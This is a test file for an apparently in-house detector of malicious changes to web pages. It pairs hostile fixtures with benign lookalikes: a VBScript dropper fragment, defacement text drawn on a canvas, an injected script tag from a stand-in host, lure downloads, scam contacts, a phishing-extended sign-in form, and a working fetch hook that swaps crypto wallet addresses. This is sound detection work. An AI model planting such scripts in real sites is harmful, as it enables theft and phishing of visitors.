/**
 * The rules of round 9 (tuned on fresh7 after its first look), on the
 * hand-written bakery page: each with the change it catches and the honest
 * change beside it that it leaves alone.
 */
import { describe, expect, it } from "@effect/vitest"
import { baselineOf, breaches, checks, page, samples, verdictOf } from "../support/pages.js"

describe("round 9: programs in scripts, text drawn on a canvas, tags shown as text, shared-file downloads", () => {
  it("a new script that runs programs through ActiveX or carries a Windows program alerts; an ordinary new script does not", () => {
    const vbs = `<SCRIPT Language=VBScript><!--
DropFileName = "svchost.exe"
Set FSO = CreateObject("Scripting.FileSystemObject")
Set WSHshell = CreateObject("WScript.Shell")
WSHshell.Run DropPath, 0
//--></SCRIPT>`
    // (after the closing tag, where file infectors append it: browsers still run it)
    const v = verdictOf(page({ seed: 4, after: vbs }))
    expect(breaches(v)).toContain("destinations/script_runs_program")
    const pe = verdictOf(page({ seed: 4, body: `<script>var blob = "TVqQAAMAAAAEAAAA//8AALgAAAAAAAAAQAAAAAAA"; save(blob)</script>` }))
    expect(breaches(pe)).toContain("destinations/script_runs_program")
    expect(checks(verdictOf(page({ seed: 4, body: `<script>document.querySelector(".menu").classList.toggle("open")</script>` })))).not.toContain("destinations/script_runs_program")
  })

  it("text a new script paints on a canvas is text the visitor sees", () => {
    const canvas = `<canvas id="c" style="position:fixed;top:0;left:0;width:100%;height:100%"></canvas><script>var x=document.getElementById("c").getContext("2d");x.font="40px monospace";x.fillText("Hacked by Red Owl Crew",40,80)</script>`
    const v = verdictOf(page({ seed: 4, body: canvas }))
    expect(v.alert).toBe(true)
    expect(checks(v).some((c) => c.startsWith("visible_text/"))).toBe(true)
    // a chart drawn from data (no literal text) is not read as a message
    const chart = `<canvas id="sales"></canvas><script>var g=document.getElementById("sales").getContext("2d");for(var i=0;i<data.length;i++){g.fillRect(i*10,100-data[i],8,data[i]);g.fillText(labels[i],i*10,110)}</script>`
    expect(verdictOf(page({ seed: 4, body: chart })).alert).toBe(false)
  })

  it("the same script tag shown as text in several places alerts; one code sample in an article is a sign only", () => {
    const tag = "&lt;script src=http://cdn-stat.example.top/b.js&gt;&lt;/script&gt;"
    const injected = verdictOf(page({ seed: 4, body: `<ul><li>Sourdough${tag}</li><li>Rye${tag}</li><li>Spelt${tag}</li></ul>` }))
    expect(breaches(injected)).toContain("visible_text/code_in_text")
    const tutorial = verdictOf(page({ seed: 4, body: `<p>To show our opening hours on your site, paste:</p><pre><code>&lt;script src="https://www.harbourbakery.co.uk/hours.js"&gt;&lt;/script&gt;</code></pre>` }))
    expect(tutorial.alert).toBe(false)
    expect(tutorial.findings.find((f) => f.check === "code_in_text")?.severity).toBe("medium")
  })

  it("an archive or program on a host where anyone can upload files alerts, even when the host's company is a known provider", () => {
    const shared = verdictOf(page({ seed: 4, body: `<p>Download the complaint: <a href="https://sites.google.com/view/x1y2z3/Evidence.iso">Evidence.iso</a></p>` }))
    expect(breaches(shared).some((c) => c === "destinations/download_shared_host" || c === "destinations/download_new_domain")).toBe(true)
    const bucket = verdictOf(page({ seed: 4, body: `<a href="https://firebasestorage.googleapis.com/v0/b/app/o/Invoice_2291.zip">Invoice</a>` }))
    expect(bucket.alert).toBe(true)
    // the site's own brochure (a PDF) from a file host is a document, not a program
    expect(verdictOf(page({ seed: 4, body: `<a href="https://www.dropbox.com/s/abc/price-list.pdf">Price list</a>` })).alert).toBe(false)
  })
})

describe("round 9: private contacts", () => {
  it("a free-mail address or a messenger account, new on a page that gave none, is a sign; beside talk of money it alerts", () => {
    const plain = verdictOf(page({ seed: 4, body: `<p>Questions about the fair? Write to harbour.fair.helper@gmail.com</p>` }))
    expect(plain.findings.find((f) => f.check === "private_contact")?.severity).toBe("medium")
    expect(plain.alert).toBe(false)
    const sale = verdictOf(page({ seed: 4, body: `<div><h3>2 tickets for Saturday's concert</h3><p>£85 each, payment by bank transfer only.</p><p>WhatsApp +44 7700 900461</p></div>` }))
    expect(breaches(sale)).toContain("identifiers/private_contact")
    const telegram = verdictOf(page({ seed: 4, body: `<p>Remote job: $60/hour. Message our recruiter: Telegram @hr_recruit_xq</p>` }))
    expect(breaches(telegram)).toContain("identifiers/private_contact")
  })

  it("the site's own channel, its own domain's address, or a page that already gives a private contact are not private contacts", () => {
    expect(checks(verdictOf(page({ seed: 4, body: `<p>Prices and news on our channel: <a href="https://t.me/harbourbakery">t.me/harbourbakery</a>, £3 a loaf.</p>` })))).not.toContain("identifiers/private_contact")
    expect(checks(verdictOf(page({ seed: 4, body: `<p>Orders over £50: orders@harbourbakery.co.uk</p>` })))).not.toContain("identifiers/private_contact")
    const already = baselineOf(samples((seed) => page({ seed, body: `<p>Market stall: harbour.stall@gmail.com</p>` })))
    const v = verdictOf(page({ seed: 4, body: `<p>Market stall: harbour.stall@gmail.com</p><p>Cake orders, £20 deposit: cakes.harbour@outlook.com</p>` }), already)
    expect(checks(v)).not.toContain("identifiers/private_contact")
  })
})

describe("round 9: forms that grow, scripts that swap addresses", () => {
  it("the sign-in form gaining two fields of any name alerts; a newsletter form gaining a name field does not", () => {
    const login = (extra: string) => `<form action="/members/signin" method="post"><input name="user"><input type="password" name="pass">${extra}<button>Go</button></form>`
    const base = baselineOf(samples((seed) => page({ seed, body: login("") })))
    const injected = verdictOf(page({ seed: 4, body: login(`<label>Card PIN <input name="f0"></label><label>Mother's maiden name <input name="f1"></label>`) }), base)
    expect(breaches(injected)).toContain("destinations/form_asks_more")
    const remember = verdictOf(page({ seed: 4, body: login(`<input type="checkbox" name="remember_me">`) }), base)
    expect(remember.alert).toBe(false)
    const news = (extra: string) => `<form action="/newsletter" method="post"><input name="email">${extra}<button>Subscribe</button></form>`
    const nbase = baselineOf(samples((seed) => page({ seed, body: news("") })))
    expect(checks(verdictOf(page({ seed: 4, body: news(`<input name="first_name"><input name="town">`) }), nbase))).not.toContain("destinations/form_asks_more")
  })

  it("a new script that replaces crypto addresses in what the page receives alerts; one that formats prices does not", () => {
    const swap = `<script>var F=window.fetch;window.fetch=function(){return F.apply(this,arguments).then(function(r){return r.text().then(function(t){return new Response(t.replace(/0x[a-fA-F0-9]{40}/g,"0x52908400098527886E0F7030069857D2E4169EE7"))})})}</script>`
    expect(breaches(verdictOf(page({ seed: 4, body: swap })))).toContain("destinations/script_copy_hijack")
    const prices = `<script>document.querySelectorAll(".price").forEach(function(e){e.textContent=e.textContent.replace(/(\\d)(?=(\\d{3})+$)/g,"$1,")})</script>`
    expect(verdictOf(page({ seed: 4, body: prices })).alert).toBe(false)
  })
})
